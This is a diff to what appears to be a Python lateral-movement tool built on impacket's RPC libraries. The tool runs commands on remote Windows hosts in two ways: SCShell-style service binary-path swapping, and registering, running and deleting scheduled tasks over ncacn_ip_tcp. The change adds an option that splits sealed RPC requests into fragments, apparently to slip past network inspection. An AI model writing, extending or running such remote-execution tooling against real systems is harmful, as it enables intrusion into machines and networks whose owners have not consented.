@@ -7,7 +7,7 @@ tools do not do:
       its binary path at NEWPATH (ChangeServiceConfigW), start it, put the old
       path back (the "fileless" lateral movement of SCShell and
       PCAP-ATTACK's ChangeServiceConfigA)
-  epm-task TARGET TASKNAME COMMAND ARGS [--auth-level L]
+  epm-task TARGET TASKNAME COMMAND ARGS [--auth-level L] [--max-frag N]
       ept_map for ITaskSchedulerService over ncacn_ip_tcp on TARGET:135, then
       to the port it named: SchRpcRegisterTask, SchRpcRun, SchRpcDelete
       (schtasks /s over TCP)
@@ -114,6 +114,8 @@ def epm_task(a):
     binding = ept_map(a.target, tsch.MSRPC_UUID_TSCHS)
     dce = tcp_dce(binding, a.auth_level)
     dce.bind(tsch.MSRPC_UUID_TSCHS)
+    if a.max_frag:
+        dce.set_max_fragment_size(a.max_frag)  # requests in fragments, each sealed on its own
     xml = TASK_XML % (esc(a.command), esc(a.arguments))
     tsch.hSchRpcRegisterTask(dce, a.task, xml, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
     tsch.hSchRpcRun(dce, a.task)
@@ -163,6 +165,7 @@ def main():
     p.add_argument("command")
     p.add_argument("arguments")
     p.add_argument("--auth-level", type=int, default=RPC_C_AUTHN_LEVEL_CONNECT)
+    p.add_argument("--max-frag", type=int, default=0)
     p.set_defaults(fn=epm_task)
     p = sub.add_parser("epm-lsa")
     p.add_argument("target")
